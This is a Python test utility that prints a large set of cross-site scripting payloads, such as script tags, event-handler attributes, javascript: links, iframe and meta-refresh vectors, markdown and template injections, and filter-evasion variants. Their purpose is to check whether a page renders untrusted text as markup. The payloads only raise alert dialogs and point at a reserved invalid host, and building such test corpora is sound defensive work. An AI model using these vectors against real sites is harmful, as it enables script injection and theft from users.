"""Texts that a browser would carry out if a page took them for markup: `python hostile_markup.py NUMBER` prints them.

Every element that one of them would make bears the attribute `data-hostile`, every script would open a dialog, and
every address is one that nobody has: so what happens when a page takes one of them for more than text can be seen.
"""

from __future__ import annotations

import json
import random
import sys
from itertools import product

from hostile_strings import TARGETS

ELSEWHERE = "https://hostile.invalid"
SCRIPTS = [
    "<script data-hostile>{js}</script>",
    "<ScRiPt data-hostile>{js}</sCrIpT >",
    "<script/data-hostile/src={url}></script>",
    "<<script data-hostile>{js}//<</script>",
    "<script data-hostile type=module>import '{url}'</script>",
    "<svg data-hostile><script>{js}</script></svg>",
    "<noscript><p title='</noscript><img data-hostile src=x onerror={js}>'></noscript>",
]
HANDLERS = [
    "<img data-hostile src=x onerror={js}>",
    "<img/data-hostile/src=x/onerror={js}>",
    "<IMG data-hostile SRC=x ONERROR='{js}'>",
    "<img data-hostile src=x onerror=&#97;lert({n})>",
    "<img data-hostile src=x onerror\n=\n{js}>",
    "<img data-hostile src=x:x onerror={js}//",
    "<svg data-hostile onload={js}>",
    "<svg/data-hostile/onload={js}>",
    "<svg data-hostile><animate onbegin={js} attributeName=x dur=1s>",
    "<svg data-hostile><set onbegin={js} attributeName=x>",
    "<body data-hostile onload={js}>",
    "<input data-hostile onfocus={js} autofocus>",
    "<select data-hostile onfocus={js} autofocus>",
    "<textarea data-hostile onfocus={js} autofocus>",
    "<details data-hostile open ontoggle={js}>",
    "<video data-hostile src=x onerror={js}></video>",
    "<video data-hostile><source onerror={js}></video>",
    "<audio data-hostile src=x onerror={js}>",
    "<marquee data-hostile onstart={js}>",
    "<div data-hostile onpointerover={js} style='position:fixed;inset:0'>x</div>",
    "<p data-hostile tabindex=0 id=x onfocus={js}>",
    "<style data-hostile>@keyframes x{{}}</style><b data-hostile style=animation-name:x onanimationstart={js}>",
    "<x data-hostile contenteditable onblur={js}>x",
]
FRAMES = [
    "<iframe data-hostile srcdoc='<script>{js}</script>'></iframe>",
    "<iframe data-hostile src=javascript:{js}></iframe>",
    "<iframe data-hostile src={url}></iframe>",
    "<object data-hostile data={url}></object>",
    "<object data-hostile data=javascript:{js}></object>",
    "<embed data-hostile src={url}>",
    "<frameset data-hostile><frame src=javascript:{js}></frameset>",
    "<meta data-hostile http-equiv=refresh content='0;url={url}'>",
    "<meta data-hostile http-equiv=refresh content='0;javascript:{js}'>",
    "<base data-hostile href={url}>",
    "<link data-hostile rel=stylesheet href={url}>",
    "<link data-hostile rel=prefetch href={url}>",
    "<form data-hostile action={url}><button autofocus>x</button></form>",
    "<style data-hostile>@import '{url}';</style>",
    "<style data-hostile>body{{background:url({url})}}</style>",
    "<img data-hostile src={url}>",
    "<img data-hostile srcset='{url} 1x'>",
    "<div data-hostile style='background-image:url({url})'>x</div>",
    "<template data-hostile shadowrootmode=open><img src=x onerror={js}></template>",
    "<math data-hostile><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
]
LINKS = [
    "<a data-hostile href=javascript:{js}>x</a>",
    "<a data-hostile href='java\tscript:{js}'>x</a>",
    "<a data-hostile href=' &#106;avascript:{js}'>x</a>",
    "<a data-hostile href='data:text/html,<script>{js}</script>'>x</a>",
    "<a data-hostile href=vbscript:msgbox({n})>x</a>",
    "<math data-hostile href=javascript:{js}>x</math>",
    "<area data-hostile href=javascript:{js}>",
]
MARKDOWN = [
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={n})",
    "[x](vbscript:msgbox({n}))",
    "[x][{n}]\n\n[{n}]: javascript:{js}",
    "<javascript:{js}>",
    "![x]({url})",
    '![x]({url} "onerror={js}")',
    "[![x]({url})](javascript:{js})",
    '![x" onerror="{js}]({url})',
    "| <img data-hostile src=x onerror={js}> |\n|---|\n| x |",
    "```html\n<img data-hostile src=x onerror={js}>\n```",
]
TEMPLATES = [
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "{{{{$on.constructor('{js}')()}}}}",
    "javascript:{js}",
    '{{"__html":"<img data-hostile src=x onerror={js}>"}}',
    '{{"__proto__":{{"innerHTML":"<img data-hostile src=x onerror={js}>"}}}}',
    "[object Object]{n}<b data-hostile>x</b>",
    "\u202e<img data-hostile src=x onerror={js}>\u202c",
    "\u2028<img data-hostile src=x onerror={js}>\u2029",
    "＜img data-hostile src=x onerror={js}＞{n}",
    "&lt;img data-hostile src=x onerror={js}&gt;",
    "&amp;lt;script&amp;gt;{js}&amp;lt;/script&amp;gt;",
]
VECTORS = [*SCRIPTS, *HANDLERS, *FRAMES, *LINKS, *MARKDOWN, *TEMPLATES]
BEFORE = [
    *('">', "'>", "`>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</pre></code>"),
    *('" autofocus onfocus=alert(0) x="', "<!--", "<![CDATA[", "\\u003c", "\\'", "</p></div></main>"),
]


def hostile_markup(number: int) -> list[str]:
    """`number` different texts, the same each time: each vector, hostile strings, and vectors behind an exit."""
    strings = [text for text in TARGETS if text.isprintable() and text.strip() and len(text) < 200]
    mixed = [before + vector for before, vector in product(BEFORE, VECTORS)]
    random.Random(7).shuffle(mixed)
    made = [
        vector.format(n=place, js=f"alert({place})", url=f"{ELSEWHERE}/{place}")
        for place, vector in enumerate([*VECTORS, *mixed], start=1)
    ]
    return list(dict.fromkeys([*made[: len(VECTORS)], *strings, *made[len(VECTORS) :]]))[:number]


if __name__ == "__main__":
    sys.stdout.write(json.dumps(hostile_markup(int(sys.argv[1]))))
